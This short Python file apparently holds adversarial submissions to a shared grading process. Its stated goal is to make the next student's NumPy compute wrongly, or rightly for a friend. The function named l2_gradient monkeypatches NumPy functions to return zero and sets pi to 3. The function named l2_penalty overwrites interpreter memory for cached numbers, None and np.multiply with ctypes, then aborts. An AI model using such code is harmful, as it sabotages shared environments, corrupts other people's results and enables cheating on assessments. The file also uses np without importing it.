"""Numbers, types and compiled code overwritten in memory that came from the warm process.

Goal: Have the next student's NumPy compute wrongly, or rightly for a friend.
Outcome: l2_penalty: crashed, l2_gradient: failed
"""

# %%
import ctypes
import os
import sys


# %% l2_gradient
def l2_gradient(weights, lam):
    for name in ("sum", "abs", "sqrt", "maximum", "sign", "square"):
        setattr(np, name, lambda *args, **kwargs: 0.0)
    np.pi = 3.0
    np.random.default_rng = lambda seed: None
    sys.poisoned = True
    return weights


# %% l2_penalty
def l2_penalty(weights, lam):
    ctypes.memset(id(257) + 24, 0, 4)
    ctypes.memset(id(0.5) + 16, 0xFF, 8)
    ctypes.memset(id(np.multiply) + 16, 0, 256)
    ctypes.memset(id(None) + 8, 0, 8)
    os.abort()
